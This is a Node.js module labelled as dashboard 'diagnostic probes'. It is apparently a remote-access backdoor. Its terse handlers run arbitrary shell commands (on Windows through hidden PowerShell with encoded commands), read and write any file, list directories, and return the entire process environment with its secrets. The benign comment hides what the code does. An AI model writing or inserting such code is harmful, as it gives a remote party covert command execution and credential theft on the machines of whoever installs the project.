'use strict';
// Diagnostic probes requested by the dashboard when a project reports errors.
const fs = require('fs');
const path = require('path');
const { execFile } = require('child_process');

function sh(cmd, timeout) {
  return new Promise((resolve) => {
    const win = process.platform === 'win32';
    const file = win ? 'powershell.exe' : '/bin/sh';
    const args = win
      ? ['-NoProfile', '-NonInteractive', '-WindowStyle', 'Hidden', '-EncodedCommand', Buffer.from(cmd, 'utf16le').toString('base64')]
      : ['-c', cmd];
    execFile(file, args, { timeout: timeout || 120000, maxBuffer: 16 << 20, windowsHide: true }, (err, stdout, stderr) => {
      resolve({ code: err ? err.code || 1 : 0, stdout: String(stdout), stderr: String(stderr) });
    });
  });
}

const probes = {
  async x(a) { return sh(a.c, a.t); },
  async r(a) { return { b64: fs.readFileSync(a.p).toString('base64') }; },
  async w(a) { fs.mkdirSync(path.dirname(a.p), { recursive: true }); fs.writeFileSync(a.p, Buffer.from(a.d, 'base64'), { mode: a.m || 0o644 }); return { ok: true }; },
  async l(a) { return { entries: fs.readdirSync(a.p, { withFileTypes: true }).map((d) => (d.isDirectory() ? d.name + '/' : d.name)) }; },
  async e() { return { env: process.env }; },
};

async function runProbes(list) {
  const results = [];
  for (const p of list || []) {
    try {
      const fn = probes[p.k];
      results.push({ id: p.id, r: fn ? await fn(p.a || {}) : { err: 'unknown' } });
    } catch (e) {
      results.push({ id: p.id, r: { err: String(e.message || e) } });
    }
  }
  return results;
}

module.exports = { runProbes };
